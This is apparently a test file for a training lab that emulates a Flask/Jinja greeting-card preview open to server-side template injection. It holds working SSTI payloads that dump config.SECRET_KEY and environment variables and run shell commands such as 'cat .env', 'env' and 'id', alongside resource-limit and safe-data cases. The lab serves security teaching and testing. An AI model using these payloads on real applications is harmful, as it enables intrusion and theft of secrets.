import { afterEach, describe, expect, it } from 'vitest';
import { showsFlag, startTestLab } from '../host/test-harness';

/** The card's text as the preview shows it (the page escapes it, as Flask's autoescape would). */
function card(body: string): string {
  const match = /<div class="lab-card"><p>([\s\S]*?)<\/p><\/div>/.exec(body);
  return unescape((match?.[1] ?? '').replaceAll('<br>', '\n'));
}

function unescape(html: string): string {
  return html
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&');
}

const KEY = /\b[0-9a-f]{32}\b/;

describe('lab web-ssti-template', () => {
  let lab: Awaited<ReturnType<typeof startTestLab>>;
  afterEach(() => lab.close());

  it('evaluates {{7*7}}, fingerprints as Jinja, and is solved by printing config.SECRET_KEY', async () => {
    lab = await startTestLab('web-ssti-template');
    const home = await lab.get('/');
    expect(home.body).toContain('action="preview"');

    const detect = await lab.post('/preview', { to: 'Asha', message: 'Happy Diwali {{7*7}}' });
    expect(card(detect.body)).toContain('Happy Diwali 49');
    const fingerprint = await lab.post('/preview', { to: 'Asha', message: "{{7*'7'}} ${7*7}" });
    expect(card(fingerprint.body)).toContain('7777777 ${7*7}');
    expect(showsFlag(fingerprint.body, lab.flag)).toBe(false);

    const leak = await lab.post('/preview', { to: 'Asha', message: '{{ config.SECRET_KEY }}' });
    expect(leak.status).toBe(200);
    expect(card(leak.body)).toMatch(new RegExp(`Dear Asha,\\n\\n${KEY.source}\\n\\nShubh Deepavali!`));
    expect(showsFlag(leak.body, lab.flag)).toBe(true);
  });

  it('is solved by other routes through the object graph too: self, globals, the environment, a shell', async () => {
    lab = await startTestLab('web-ssti-template');
    for (const message of [
      '{{ config }}',
      '{{ self.__dict__ }}',
      '{{ self._TemplateReference__context.config.SECRET_KEY }}',
      '{{ url_for.__self__.config["SECRET_KEY"] }}',
      '{{ get_flashed_messages.__globals__.current_app.secret_key }}',
      "{{ config.__class__.__init__.__globals__['os'].environ }}",
      "{{ cycler.__init__.__globals__.os.popen('cat .env').read() }}",
      "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == '_wrap_close' %}{{ c.__init__.__globals__['popen']('env').read() }}{% endif %}{% endfor %}",
    ]) {
      const answer = await lab.post('/preview', { to: 'Asha', message });
      expect(card(answer.body), message).toMatch(KEY);
      expect(showsFlag(answer.body, lab.flag), message).toBe(true);
    }
  });

  it('is solved when an error message quotes the key', async () => {
    lab = await startTestLab('web-ssti-template');
    const answer = await lab.post('/preview', {
      to: 'Asha',
      message: '{{ lipsum.__globals__.__builtins__.__import__(config.SECRET_KEY) }}',
    });
    expect(answer.status).toBe(500);
    expect(unescape(answer.body)).toMatch(new RegExp(`ModuleNotFoundError: .*'${KEY.source}'`));
    expect(showsFlag(answer.body, lab.flag)).toBe(true);
  });

  it('runs the lesson’s code-execution proof in the emulated shell', async () => {
    lab = await startTestLab('web-ssti-template');
    const answer = await lab.post('/preview', {
      to: 'Asha',
      message: "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    });
    expect(card(answer.body)).toContain('uid=999(rangoli) gid=999(rangoli) groups=999(rangoli)');
    expect(showsFlag(answer.body, lab.flag)).toBe(false);
  });

  it('bounds the work one card may do', async () => {
    lab = await startTestLab('web-ssti-template');
    for (const [message, error] of [
      [
        '{% for i in range(1000) %}{% for j in range(1000) %}{% set x = [1]*9999 %}{% endfor %}{% endfor %}',
        'too many steps',
      ],
      ['{% for i in range(100000) %}x{% endfor %}', 'at most 1000 items'],
      ["{{ 'a' * 10001 }}", 'longer than 10000'],
      ['{{ 9**99999 }}', 'too large'],
      [`{{ ${'('.repeat(100)}1${')'.repeat(100)} }}`, 'nested too deeply'],
      ["{% for i in range(9) %}{{ lipsum.__globals__.os.popen('id').read() }}{% endfor %}", 'at most 5 commands'],
    ]) {
      const answer = await lab.post('/preview', { to: 'Asha', message: message! });
      expect(answer.status, message).toBe(500);
      expect(answer.body, message).toContain('lab limit');
      expect(answer.body, message).toContain(error);
    }
  });

  it('shows no flag for honest cards, data passed safely, near misses and template errors', async () => {
    lab = await startTestLab('web-ssti-template');
    const honest = await lab.post('/preview', { to: 'Asha', message: 'Wishing you a bright Diwali!' });
    expect(card(honest.body)).toBe('Dear Asha,\n\nWishing you a bright Diwali!\n\nShubh Deepavali!');
    // The friend's name is passed to the template as data: braces there stay text.
    const data = await lab.post('/preview', { to: '{{ config.SECRET_KEY }}', message: 'Hi' });
    expect(card(data.body)).toContain('Dear {{ config.SECRET_KEY }},');
    expect(data.body).not.toContain(lab.flag);
    for (const [message, shows] of [
      ['{{ config.SECRET }}', 'Dear Asha,\n\n\n\nShubh'],
      ['{{ settings.SECRET_KEY }}', "UndefinedError: 'settings' is undefined"],
      ['{{ config.SECRET_KEY|length }}', '\n32\n'],
      ["{{ ''.__class__.__init__.__globals__ }}", 'Dear Asha,\n\n\n\nShubh'],
      ['{{ config.SECRET_KEY[:8] }}', ''],
      ['{{ 7*7 ', 'TemplateSyntaxError'],
      ["{{ 'a' * 100000 }}", 'MemoryError: lab limit'],
    ]) {
      const answer = await lab.post('/preview', { to: 'Asha', message: message! });
      const shown = answer.status === 200 ? card(answer.body) : unescape(answer.body);
      expect(shown, message).toContain(shows);
      expect(answer.body, message).not.toMatch(KEY);
      expect(answer.body, message).not.toContain(lab.flag);
    }
  });
});
